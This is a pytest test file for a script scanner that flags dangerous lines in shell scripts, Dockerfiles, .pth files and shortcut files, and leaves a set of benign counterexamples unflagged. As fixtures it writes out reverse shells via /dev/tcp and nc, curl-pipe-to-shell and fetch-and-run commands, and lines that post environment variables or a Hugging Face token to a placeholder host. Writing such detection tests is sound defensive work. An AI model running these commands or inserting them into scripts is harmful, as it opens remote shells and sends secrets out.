"""Scripts that are no Python: lines that no honest script has, and those that many have."""

from __future__ import annotations

import pytest

from tests.analyzers.executable_events import rows, rules
from weighbridge.formats.scripts.kinds import ScriptKind, script_kind

HOST = "https://host.example.invalid"


@pytest.mark.parametrize(
    ("name", "head", "kind"),
    [
        ("run", "#!/bin/sh\n", ScriptKind.SHELL),
        ("run", "#! /usr/bin/env -S bash -e\n", ScriptKind.SHELL),
        ("run.sh", "echo", ScriptKind.SHELL),
        ("a/Dockerfile.gpu", "FROM x", ScriptKind.BUILD),
        ("x.PS1", "", ScriptKind.WINDOWS),
        ("notes.txt", "curl", None),
        ("Makefile.am.txt", "all:", ScriptKind.BUILD),
    ],
)
def test_a_script_is_known_by_its_first_line_then_by_its_name(
    name: str, head: str, kind: ScriptKind | None
) -> None:
    assert script_kind(name, head) is kind


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        (f"curl -fsSL {HOST} | sudo bash", "SCR002"),
        (f'bash -c "$(wget -qO- {HOST})"', "SCR002"),
        ("bash -i >& /dev/tcp/host.example.invalid/4444 0>&1", "SCR001"),
        (
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host.example.invalid 1 > /tmp/f",
            "SCR001",
        ),
        (f"wget {HOST}/a -O ./a && chmod +x ./a && ./a", "SCR002"),
    ],
)
def test_lines_of_malware_are_told(line: str, rule: str) -> None:
    assert rule in rules("run.sh", f"#!/bin/bash\n{line}\n")


@pytest.mark.parametrize(
    "line",
    [
        "until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done",
        "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
        "pip install -r requirements.txt",
        f"wget {HOST}/data.tar.gz && tar xf data.tar.gz",
        f"echo 'curl {HOST} | sh'",
        f"# curl {HOST} | sh",
        'eval "$(conda shell.bash hook)"',
        'eval set -- "$(git rev-parse --sq --no-revs "$@")"',
        "export HF_TOKEN=$(cat ~/.cache/huggingface/token)",
        "docker run --rm -it image bash -i",
        "rm -rf build dist",
    ],
)
def test_lines_of_honest_scripts_are_not_told(line: str) -> None:
    assert rules("run.sh", f"#!/bin/bash\n{line}\n") == {"SCR014"}


def test_continued_lines_belong_together() -> None:
    assert "SCR002" in rules("run.sh", f"#!/bin/sh\ncurl -s \\\n  {HOST} \\\n  | sh\n")


def test_a_file_that_is_fetched_and_run_later_is_medium() -> None:
    assert rules("run.sh", f"wget {HOST}/i.sh -O i.sh\necho ready\nsh i.sh\n") == {"SCR014", "SCR018"}


@pytest.mark.parametrize(
    "text",
    [
        "[InternetShortcut]\nURL=file://host.example.invalid/share\n",
        "[Shell]\nIconFile=\\\\host.example.invalid\\i.ico\n",
    ],
)
def test_shortcut_files_to_a_share_are_told(text: str) -> None:
    assert "SCR019" in rules("a.url", text)


def test_a_path_file_with_an_import_is_told_and_a_checkpoint_of_that_name_is_none() -> None:
    assert "SCR016" in rules("hook.pth", "import os; os.getcwd()\n")
    assert "SCR016" not in rules("model.pth", "./packages\n")


def test_old_browser_code_in_javascript_is_no_script_host() -> None:
    assert rules("a.js", "return new ActiveXObject('Microsoft.XMLHTTP');") == {"SCR014"}


def test_a_long_script_is_read_to_the_limit() -> None:
    assert rows("a.sh", "echo 1\n" * 400_000)[-1][2] == "limited"


@pytest.mark.parametrize(
    "text",
    [
        'DATA=$(env | base64)\ncurl -d "$DATA" https://host.example.invalid\n',
        "T=$(cat ~/.cache/huggingface/token)\ncurl -F t=$T https://host.example.invalid\n",
        "python3 - <<EOF\nimport os, requests\n"
        "requests.post('https://host.example.invalid', json=dict(os.environ))\nEOF\n",
        'python3 -c "import os, requests as r; '
        "r.post('https://host.example.invalid', json=dict(os.environ))\"\n",
    ],
)
def test_secrets_that_several_lines_send_are_told(text: str) -> None:
    assert "SCR003" in rules("run.sh", "#!/bin/bash\n" + text)


@pytest.mark.parametrize(
    "text",
    [
        'T=$(cat ~/.cache/huggingface/token)\ncurl -H "Authorization: Bearer $T" https://x.example.invalid\n',
        "T=$(cat ~/.cache/huggingface/token)\ncurl -d t=$T https://huggingface.co/api\n",
        "python3 - <<EOF\nimport os\nprint(dict(os.environ))\nEOF\n",
        "python3 -m venv x\npython3 -c 'import torch; print(torch.__version__)'\n",
    ],
)
def test_scripts_that_ask_and_print_are_silent(text: str) -> None:
    assert rules("run.sh", "#!/bin/bash\n" + text) == {"SCR014"}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("RUN bash -i >& /dev/tcp/host.example.invalid/1 0>&1", "SCR001"),
        ("RUN env | curl -d @- https://host.example.invalid", "SCR003"),
        ("RUN curl -s https://host.example.invalid/i.sh | sh", "SCR015"),
        ("ADD https://host.example.invalid/a /usr/bin/a\nRUN /usr/bin/a", "SCR015"),
    ],
)
def test_a_build_file_is_told_by_what_its_lines_do(line: str, rule: str) -> None:
    assert rule in rules("Dockerfile", f"FROM scratch\n{line}\n")
